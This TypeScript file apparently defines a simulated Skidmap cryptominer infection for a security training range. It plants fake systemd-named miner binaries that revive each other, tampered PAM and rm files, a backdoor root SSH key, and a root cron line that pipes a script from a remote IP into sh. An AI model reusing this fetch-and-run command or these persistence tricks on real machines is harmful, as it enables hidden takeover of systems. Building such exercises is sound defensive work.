import { type Infection, minerWords, miner } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const unit = (name: string) =>
  `[Unit]\nDescription=${name}\n\n[Service]\nType=simple\nExecStart=/usr/bin/${name}\nRestart=always\nRestartSec=2\n\n[Install]\nWantedBy=multi-user.target\n`

/** families.md §2: programs and units named like parts of systemd, a replaced PAM module, a replaced rm. The kernel part is left out: nothing of ours touches a kernel. */
export const skidmap: Infection = {
  family: 'skidmap',
  known: true,
  title: 'Skidmap: a miner among the parts of systemd, with PAM and rm replaced',
  story: [
    'systemd-cgroup mines and systemd-deltaed watches over it: each brings the other back.',
    'Both lie in /usr/bin with a .org copy, and their units lie where packages put theirs.',
    'pam_unix.so and rm are no longer what the packages installed, and no good copy is on this host.',
    'A cron line downloads the installer again; a key opens root.',
  ],
  items: [
    {
      kind: 'file',
      path: '/usr/bin/systemd-cgroup',
      content: {
        lookalike: { ...miner, keeps: ['/usr/bin/systemd-deltaed'], keepsRunning: ['/usr/bin/systemd-deltaed'] },
        words: minerWords,
      },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/usr/bin/systemd-deltaed',
      content: {
        lookalike: {
          stubborn: true,
          once: 'deltaed',
          keeps: ['/usr/bin/systemd-cgroup', '/lib/systemd/system/systemd-cgroup.service'],
          keepsRunning: ['/usr/bin/systemd-cgroup'],
        },
      },
      mode: 0o755,
    },
    { kind: 'file', path: '/usr/bin/systemd-cgroup.org', content: { copyOf: '/usr/bin/systemd-cgroup' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/usr/bin/systemd-deltaed.org',
      content: { copyOf: '/usr/bin/systemd-deltaed' },
      mode: 0o755,
    },
    { kind: 'file', path: '/lib/systemd/system/systemd-cgroup.service', content: { text: unit('systemd-cgroup') } },
    { kind: 'file', path: '/lib/systemd/system/systemd-deltaed.service', content: { text: unit('systemd-deltaed') } },
    { kind: 'unit', name: 'systemd-cgroup.service', path: '/lib/systemd/system/systemd-cgroup.service' },
    { kind: 'unit', name: 'systemd-deltaed.service', path: '/lib/systemd/system/systemd-deltaed.service' },
    {
      kind: 'file',
      path: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so',
      content: {
        copyOf: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so',
        append: 'davylamp range: changed by an intruder\n',
      },
      mode: 0o644,
      after: 'advised',
    },
    {
      kind: 'file',
      path: '/usr/bin/rm',
      content: { copyOf: '/usr/bin/rm', append: 'davylamp range: changed by an intruder\n' },
      mode: 0o755,
      after: 'advised',
    },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/root',
      text: '*/1 * * * * curl -fsSL http://203.0.113.51/pm.sh | sh',
      mode: 0o600,
    },
    {
      kind: 'line',
      path: '/root/.ssh/authorized_keys',
      text: loginKey('ssh-ed25519', 'skidmap', 'root@u17'),
      mode: 0o600,
      // Nothing tells it from the administrator's own key beside it: a person has to.
      after: 'advised',
    },
    { kind: 'process', path: '/usr/bin/systemd-cgroup', argv: [], startedBy: 'systemd-cgroup.service' },
    { kind: 'process', path: '/usr/bin/systemd-deltaed', argv: [], startedBy: 'systemd-deltaed.service' },
  ],
}
